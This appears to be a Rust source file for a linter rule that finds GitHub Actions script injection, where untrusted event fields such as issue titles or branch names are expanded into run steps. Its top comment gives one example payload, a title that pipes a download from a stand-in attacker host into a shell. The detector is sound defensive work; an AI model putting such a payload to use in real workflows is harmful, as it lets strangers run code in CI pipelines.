//! `${{ }}` is put into a script before the shell reads it: a title such as `$(curl evil.example | sh)` becomes a command.

use linkward_model::Code;
use serde_json::Value;

use crate::{Look, Report, Rule, Weight, line};
use linkward_evidence::workflow::Workflow;

pub(crate) const RULE: Rule =
    Rule { code: Code::ScriptInjection, weight: Weight::High, looks: &[Look::Workflow(look)] };

/// Ends of context paths that anybody can fill by opening an issue, a pull request or a branch.
const FREE: &[&str] = &[
    ".title",
    ".body",
    ".message",
    ".email",
    ".head_ref",
    ".head_branch",
    ".label",
    ".default_branch",
    ".page_name",
    ".display_title",
    ".name",
    ".ref",
];

fn look(workflow: &Workflow<'_>, report: &mut Report<'_>) {
    for step in workflow.steps() {
        // actions/github-script runs its input as well.
        let script = step.uses.filter(|uses| uses.to_lowercase().starts_with("actions/github-script@"));
        let script = script.and_then(|_| step.with?.get("script").and_then(Value::as_str));
        for text in step.run.into_iter().chain(script) {
            for expression in expressions(text) {
                if let Some(path) = free(expression) {
                    let at = line::find(workflow.text, expression, step.line.saturating_sub(1));
                    report.add(at, format!("`{path}` is written by strangers and becomes part of the script; pass it through `env`"));
                }
            }
        }
    }
}

/// The insides of `${{ }}`.
fn expressions(text: &str) -> impl Iterator<Item = &str> {
    text.split("${{").skip(1).filter_map(|rest| rest.split_once("}}")).map(|(inside, _)| inside)
}

/// The first path in an expression that strangers fill.
fn free(expression: &str) -> Option<&str> {
    let is_path = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '*' | '[' | ']');
    expression.split(|c| !is_path(c)).find(|path| {
        let lower = path.to_lowercase();
        if lower == "github.head_ref" {
            return true;
        }
        lower.starts_with("github.event.")
            // What the repository itself is called is not the stranger's choice.
            && !lower.starts_with("github.event.repository.")
            && !lower.starts_with("github.event.inputs.")
            && !lower.starts_with("github.event.organization.")
            && FREE.iter().any(|end| lower.ends_with(end))
    })
}
